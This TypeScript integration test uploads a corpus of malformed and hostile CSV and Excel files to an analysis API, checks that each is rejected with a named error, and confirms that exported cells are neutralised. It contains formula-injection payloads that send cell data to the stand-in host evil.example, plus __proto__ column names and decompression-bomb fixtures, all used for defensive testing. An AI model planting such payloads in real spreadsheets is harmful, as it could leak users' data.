/**
 * Feeds the hostile-input corpus (tests/fixtures/bad-inputs) through the real HTTP API, signed upload included, to
 * prove each file is refused with a 4xx or a failed job whose message names the problem, that no job completes on
 * garbage, and that the server is still healthy afterwards.
 */
import { readFile, readdir } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiClient, type ApiClient } from '../../src-shared/client/index.js';
import { ApiError } from '../../src-shared/client/api-error.js';
import type { JobStatus } from '../../src-shared/api/http.js';
import type { JobParametersInput } from '../../src-shared/api/job-types.js';
import { GENERATED, STATIC_FILES } from '../fixtures/bad-inputs/corpus.js';
import { startTestBackend, type TestBackend } from '../support/test-backend.js';

const CORPUS_DIR = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/bad-inputs');

type Job =
  | { job_type: 'linear_analysis'; parameters: JobParametersInput['linear_analysis'] }
  | { job_type: 'optimization'; parameters: JobParametersInput['optimization'] }
  | { job_type: 'pareto'; parameters: JobParametersInput['pareto'] };

interface Case {
  /** The message of the 4xx answer or of the failed job must match. */
  message: RegExp;
  /** Default: linear_analysis with target y, OLS only. */
  job?: Job;
  /**
   * The two files whose data are valid: the job must complete and its outputs are checked instead. `constant`:
   * y is constant, so the fit is exact (intercept 7, R² undefined = null, nothing NaN); `neutralised`: text
   * features that look like formulas, and no exported cell may start like one.
   */
  completes?: 'constant' | 'neutralised';
}

const LINEAR: Job = {
  job_type: 'linear_analysis',
  parameters: { target_column: 'y', models_to_use: ['ols'] },
};

const NOT_A_NUMBER = (row: number, column: string, value: string) =>
  new RegExp(`^Row ${row}, column "${column}": "${escape(value)}" is not a number`);

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

const PARETO: Job = {
  job_type: 'pareto',
  parameters: {
    objectives: [
      { column: 'cost', direction: 'min' },
      { column: 'quality', direction: 'max' },
    ],
  },
};

/** Every corpus file and what its rejection must say (row, column or field where there is one). */
const CASES: Record<string, Case> = {
  'empty.csv': { message: /size_bytes/ },
  'whitespace-only.csv': { message: /^The file is empty\./ },
  'header-only.csv': { message: /header row but no data rows/ },
  'header-and-blank-rows.csv': { message: /header row but no data rows/ },
  'binary-garbage.csv': { message: /not text \(it contains binary data\)/ },
  'png-named-csv.csv': { message: /not text \(it contains binary data\)/ },
  'xlsx-named-csv.csv': { message: /looks like an Excel workbook\. Give it the \.xlsx extension/ },
  'csv-named-xlsx.xlsx': { message: /not a readable Excel workbook/ },
  'garbage-named-xlsx.xlsx': { message: /not a readable Excel workbook/ },
  'truncated.xlsx': { message: /not a readable Excel workbook/ },
  'unsupported-extension.xls': { message: /filename "unsupported-extension\.xls" must end in/ },
  'numbers-only-header.csv': { message: /^Row 1 holds only numbers.*column names/ },
  'duplicate-headers.csv': { message: /"a" appears twice.*column 1 \(A\) and column 2 \(B\)/ },
  'duplicate-headers-after-trim.csv': { message: /"y" appears twice.*column 2 \(B\) and column 3 \(C\)/ },
  'blank-header-cell.csv': { message: /no name for column 2 \(B\).*row 2/ },
  'ragged-short-row.csv': { message: /^Row 6 has 2 fields but the header \(row 1\) has 3/ },
  'ragged-long-row.csv': { message: /^Row 8 has 4 fields but the header \(row 1\) has 3/ },
  'unclosed-quote.csv': { message: /^Row 5: a quoted field is never closed/ },
  'target-all-text.csv': { message: NOT_A_NUMBER(2, 'y', 'lot-0') },
  'target-column-missing.csv': { message: /target column "y" is not in the table.*"a", "b", "z"/ },
  'target-all-missing.csv': { message: /^Column "y" has no values.*target/ },
  'all-rows-missing.csv': { message: /No numeric feature columns/ },
  'one-row.csv': { message: /^y: 1 complete row\(s\) are too few/ },
  'two-rows.csv': { message: /^y: 2 complete row\(s\) are too few/ },
  'constant-target.csv': { message: /^$/, completes: 'constant' },
  'nan-inf-target.csv': { message: /^Row 8, column "y": "Inf" is not a number \(infinite values/ },
  'thousands-separator.csv': { message: /^Row 7, column "y": "1,234" is not a number \(use a dot/ },
  'full-width-thousands.csv': { message: /^Row 4, column "y": "１，２３４" is not a number \(use a dot/ },
  'hex-and-underscore-numbers.csv': { message: NOT_A_NUMBER(7, 'y', '1_000') },
  'decimal-comma-semicolon.csv': { message: /^Row 2, column "y": "1,5" is not a number \(use a dot/ },
  'shift-jis-with-utf8-row.csv': { message: /mixes encodings: line 1 is Shift-JIS .* line 8 is UTF-8/ },
  'utf16le-no-bom.csv': { message: /looks like UTF-16LE text without a byte order mark/ },
  'utf16be-no-bom.csv': { message: /looks like UTF-16BE text without a byte order mark/ },
  'utf8-bom-invalid-body.csv': { message: /UTF-8 byte order mark but is not valid UTF-8/ },
  'latin1.csv': { message: /encoding is not recognised.*Line 1 is the first/ },
  'nul-in-text.csv': { message: /not text \(it contains binary data\)/ },
  'formula-injection-target.csv': {
    message: NOT_A_NUMBER(2, 'y', '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
  },
  'formula-injection-header.csv': { message: /target column "y" is not in the table/ },
  'formula-injection-target-only-formulas.csv': { message: NOT_A_NUMBER(2, 'y', '=1+1') },
  'formula-injection-features.csv': {
    message: /^$/,
    completes: 'neutralised',
    job: {
      job_type: 'linear_analysis',
      parameters: { target_column: 'y', feature_columns: ['a', 'grade'], models_to_use: ['ols'] },
    },
  },
  'boolean-target.csv': { message: NOT_A_NUMBER(2, 'y', 'FALSE') },
  'more-features-than-rows.csv': { message: /^y: 5 complete row\(s\) are too few/ },
  'empty-sheet.xlsx': { message: /^Sheet "Sheet1" is empty\./ },
  'header-only.xlsx': { message: /^Sheet "Sheet1" has a header row but no data rows/ },
  'no-sheets.xlsx': { message: /^The workbook has no sheets\./ },
  'formula-without-result.xlsx': { message: /^Row 2, cell C2: the formula has no saved result/ },
  'error-values-target.xlsx': { message: /^Column "y" has no values/ },
  'formula-injection.xlsx': { message: NOT_A_NUMBER(2, 'y', '=HYPERLINK("http://evil.example","x")') },
  'proto-column-names.csv': {
    message: /column name "__proto__" in the header \(row 1, column 1 \(A\)\) cannot be used/,
    job: { job_type: 'pareto', parameters: { objectives: [{ column: '__proto__' }, { column: 'y' }] } },
  },
  'pareto-one-objective-text.csv': { message: NOT_A_NUMBER(2, 'quality', 'good'), job: PARETO },
  'optimization-text-factors.csv': {
    message: /fewer candidates \(4\) than model terms \(6\)/,
    job: { job_type: 'optimization', parameters: { num_points: 2, feature_columns: ['temp', 'pressure'] } },
  },
  'ten-mb-single-line.csv': { message: /header row but no data rows/ },
  'ten-thousand-and-one-columns.csv': { message: /10001 columns; at most 10000/ },
  'ten-thousand-columns.csv': { message: /^y: 3 complete row\(s\) are too few/ },
  'shared-strings-bomb.xlsx': { message: /part "xl\/sharedStrings\.xml" expands to more than/ },
  'deflate-bomb.xlsx': { message: /part "xl\/worksheets\/sheet1\.xml" expands to more than/ },
};

/** The same bytes as another corpus file, submitted as a different job. */
const ALIASES: Record<string, { file: string; case: Case }> = {
  'header-only.csv as pareto': {
    file: 'header-only.csv',
    case: {
      message: /header row but no data rows/,
      job: { job_type: 'pareto', parameters: { objectives: [{ column: 'a' }, { column: 'y' }] } },
    },
  },
  'proto-column-names.csv as linear_analysis': {
    file: 'proto-column-names.csv',
    case: { message: /column name "__proto__" .* cannot be used/ },
  },
  'proto-column-names.csv as optimization': {
    file: 'proto-column-names.csv',
    case: {
      message: /column name "__proto__" .* cannot be used/,
      job: { job_type: 'optimization', parameters: { num_points: 3 } },
    },
  },
  'numbers-only-header.csv as optimization': {
    file: 'numbers-only-header.csv',
    case: { message: /^Row 1 holds only numbers/, job: { job_type: 'optimization', parameters: {} } },
  },
  'target-all-text.csv as pareto': {
    file: 'target-all-text.csv',
    case: {
      message: NOT_A_NUMBER(2, 'y', 'lot-0'),
      job: { job_type: 'pareto', parameters: { objectives: [{ column: 'a' }, { column: 'y' }] } },
    },
  },
};

let backend: TestBackend;
let client: ApiClient;

beforeAll(async () => {
  backend = await startTestBackend({ ZEROSEC_WORKER_CONCURRENCY: '2' });
  client = createApiClient({ baseUrl: backend.url, retryBaseDelayMs: 20 });
});
afterAll(async () => {
  await backend?.dispose();
});

async function corpusBytes(name: string): Promise<Uint8Array> {
  const generate = GENERATED[name];
  if (generate) return generate();
  return new Uint8Array(await readFile(path.join(CORPUS_DIR, name)));
}

function contentType(name: string): string {
  if (name.endsWith('.xlsx')) return 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  return name.endsWith('.csv') ? 'text/csv' : 'application/octet-stream';
}

type Outcome =
  { kind: 'rejected'; status: number | null; message: string } | { kind: 'job'; final: JobStatus };

/** Upload and submit one file; a 4xx at any step ends the attempt. */
async function submit(name: string, bytes: Uint8Array, job: Job): Promise<Outcome> {
  try {
    const presign = await client.presignUpload({
      filename: name,
      content_type: contentType(name),
      size_bytes: bytes.length,
    });
    await client.uploadFile(presign, bytes);
    await client.createJob({ job_id: presign.job_id, input_key: presign.key, ...job });
    const final = await client.waitForJob(presign.job_id, { timeoutMs: 120_000 });
    return { kind: 'job', final };
  } catch (error) {
    if (error instanceof ApiError && error.isClientError) {
      return { kind: 'rejected', status: error.status, message: error.message };
    }
    throw error;
  }
}

const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
const looksLikeFormula = (text: string) => /^[=+\-@\t\r]/.test(text) && !NUMBER.test(text);

/** Text cells of every CSV and XLSX artifact of a job that Excel would run as a formula. */
async function formulaLikeCells(jobId: string): Promise<{ unsafe: string[]; neutralised: number }> {
  const found: string[] = [];
  let neutralised = 0;
  const wasNeutralised = (text: string) => /^'[=+\-@\t\r]/.test(text);
  const { artifacts } = await client.listArtifacts(jobId);
  for (const artifact of artifacts) {
    const { bytes } = await client.download(jobId, artifact.file_key);
    if (artifact.file_name.endsWith('.csv')) {
      const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '');
      const rows = Papa.parse<string[]>(text, { header: false, delimiter: ',', skipEmptyLines: true }).data;
      rows.forEach((row, r) =>
        row.forEach((cell, c) => {
          if (looksLikeFormula(cell)) found.push(`${artifact.file_name} row ${r + 1} col ${c + 1}: ${cell}`);
          if (wasNeutralised(cell)) neutralised++;
        }),
      );
    } else if (artifact.file_name.endsWith('.xlsx')) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            // Formula cells are the calculator's own formulas; only text can smuggle one in.
            const value = cell.value;
            const text =
              typeof value === 'string'
                ? value
                : value && typeof value === 'object' && 'richText' in value
                  ? value.richText.map((run) => run.text).join('')
                  : null;
            if (text !== null && looksLikeFormula(text)) {
              found.push(`${artifact.file_name} ${sheet.name}!${cell.address}: ${text}`);
            }
            if (text !== null && wasNeutralised(text)) neutralised++;
          }),
        ),
      );
    }
  }
  return { unsafe: found, neutralised };
}

/** Checks a job that was allowed to complete; returns the problems found. */
async function checkCompleted(kind: 'constant' | 'neutralised', final: JobStatus): Promise<string[]> {
  if (final.status !== 'completed')
    return [`expected completed, got ${final.status}: ${final.error?.message}`];
  if (kind === 'neutralised') {
    const { artifacts } = await client.listArtifacts(final.job_id);
    const exported = artifacts.filter((a) => /\.(csv|xlsx)$/.test(a.file_name));
    if (exported.length < 2)
      return [`expected CSV and XLSX artifacts, got ${artifacts.map((a) => a.file_name)}`];
    const { unsafe, neutralised } = await formulaLikeCells(final.job_id);
    // The grade levels do reach the outputs (as neutralised text), so the check above is not vacuous.
    return neutralised > 0 ? unsafe : [...unsafe, 'no neutralised formula-like text in any artifact'];
  }
  const result = await client.getResult(final.job_id);
  if (result.job_type !== 'linear_analysis') return ['wrong job type'];
  const target = result.body.targets[0]!;
  const problems: string[] = [];
  const estimates = target.coefficients.map((c) => c.estimate);
  if (Math.abs(estimates[0]! - 7) > 1e-9) problems.push(`intercept ${estimates[0]} ≠ 7`);
  if (estimates.slice(1).some((e) => e !== null && Math.abs(e) > 1e-9)) problems.push(`slopes ${estimates}`);
  if (target.metrics.in_sample_r2 !== null)
    problems.push(`R² ${target.metrics.in_sample_r2} for a constant y`);
  return problems;
}

describe('hostile input corpus over HTTP', () => {
  it('every corpus file is described in the README and listed in the table', async () => {
    const readme = await readFile(path.join(CORPUS_DIR, 'README.md'), 'utf8');
    const files = [...Object.keys(STATIC_FILES), ...Object.keys(GENERATED)];
    expect(new Set(Object.keys(CASES))).toEqual(new Set(files));
    for (const name of files) expect(readme, name).toContain(`\`${name}\``);
    // The committed files are exactly the static ones (the generated ones are never written).
    const committed = (await readdir(CORPUS_DIR)).filter((f) => !/\.(md|ts)$/.test(f));
    expect(new Set(committed)).toEqual(new Set(Object.keys(STATIC_FILES)));
    expect(files.length).toBeGreaterThanOrEqual(40);
  });

  it('each file yields a 4xx or a failed job naming the problem, and the server stays healthy', async () => {
    const runs = [
      ...Object.entries(CASES).map(([name, c]) => ({ label: name, file: name, c })),
      ...Object.entries(ALIASES).map(([label, a]) => ({ label, file: a.file, c: a.case })),
    ];
    const results: string[] = [];
    const failures: string[] = [];
    // A few at a time: the queue and the worker threads see concurrent hostile jobs, and the run stays short.
    await eachLimited(runs, 3, async ({ label, file, c }) => {
      const bytes = await corpusBytes(file);
      const started = Date.now();
      const outcome = await submit(file, bytes, c.job ?? LINEAR);
      const took = Date.now() - started;
      const message = outcome.kind === 'rejected' ? outcome.message : (outcome.final.error?.message ?? '');
      const what =
        outcome.kind === 'rejected'
          ? `HTTP ${outcome.status}`
          : `${outcome.final.status} ${outcome.final.error?.code ?? ''} (attempts ${outcome.final.attempts})`;
      results.push(`${label} [${took} ms] ${what}: ${message.slice(0, 160)}`);
      if (c.completes) {
        const problems =
          outcome.kind === 'job'
            ? await checkCompleted(c.completes, outcome.final)
            : [`rejected: ${message}`];
        failures.push(...problems.map((p) => `${label}: ${p}`));
      } else if (outcome.kind === 'job' && outcome.final.status !== 'failed') {
        failures.push(`${label}: job ended ${outcome.final.status}`);
      } else if (outcome.kind === 'job' && outcome.final.error?.code !== 'ZS_ERR_INPUT') {
        failures.push(`${label}: ${outcome.final.error?.code} instead of a named input problem: ${message}`);
      } else if (!c.message.test(message)) {
        failures.push(`${label}: message ${JSON.stringify(message)} does not match ${c.message}`);
      }
    });
    console.log(results.sort().join('\n'));
    expect(failures).toEqual([]);

    const health = await client.health();
    expect(health.status).toBe('ok');
    expect(health.checks).toEqual({ db: 'ok', storage: 'ok', queue: 'ok' });
  }, 120_000);
});

async function eachLimited<T>(items: readonly T[], limit: number, run: (item: T) => Promise<void>) {
  let next = 0;
  const lanes = Array.from({ length: limit }, async () => {
    while (next < items.length) await run(items[next++]!);
  });
  await Promise.all(lanes);
}
